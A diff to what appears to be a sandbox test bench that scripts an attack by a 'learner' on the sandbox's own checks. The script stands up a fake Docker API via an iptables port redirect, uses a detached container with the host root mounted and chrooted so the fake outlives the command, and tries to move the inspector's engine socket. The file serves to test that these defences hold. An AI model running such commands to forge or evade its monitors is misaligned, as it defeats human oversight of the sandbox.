@@ -25,19 +25,21 @@ while (my $c = $s->accept) {
 `;
 
 /**
- * The forged-check attack as one learner command: the fake API above started with setsid, the engine's old
+ * The forged-check attack as one learner command: the fake API above, run by the learner's own engine (a
+ * busybox container on the sandbox's network that chroots into the sandbox's files for perl: what Docker runs
+ * outlives the command, where a `setsid` process is ended after it), the engine's old
  * loopback port redirected to it, and a try at moving the inspector's engine socket aside. Prints
  * `fake-api-up` once the fake answers through the redirect, and `socket-locked` when the move was refused.
  */
 export const FAKE_API_ATTACK_COMMAND = [
   `cat > /tmp/fake-api.pl <<'DOCKHAND_EOF'\n${FAKE_DOCKER_API_PERL}DOCKHAND_EOF`,
   'iptables -t nat -I OUTPUT -p tcp -d 127.0.0.1 --dport 23750 -j REDIRECT --to-ports 23751',
-  'setsid perl /tmp/fake-api.pl </dev/null >/dev/null 2>&1 &',
+  'docker run -d --rm --network host -v /:/host busybox chroot /host perl /tmp/fake-api.pl >/dev/null',
   'for i in $(seq 50); do curl -s -m 1 127.0.0.1:23750/_ping 2>/dev/null | grep -q OK && { echo fake-api-up; break; }; sleep 0.1; done',
   'mv /dockhand-engine/docker.sock /dockhand-engine/old 2>/dev/null && echo socket-moved || echo socket-locked',
 ].join('\n');
 
 /** Attacks on the checks themselves (a forged engine); the bench reports the bystander's latency while they run. */
 export const CHECK_ATTACKS: Attack[] = [
-  { name: 'iptables REDIRECT of the engine port to a fake Docker API (setsid perl)', command: FAKE_API_ATTACK_COMMAND, expect: (r) => r.output.includes('fake-api-up') && r.output.includes('socket-locked') },
+  { name: 'iptables REDIRECT of the engine port to a fake Docker API (perl in a nested container)', command: FAKE_API_ATTACK_COMMAND, expect: (r) => r.output.includes('fake-api-up') && r.output.includes('socket-locked') },
 ];
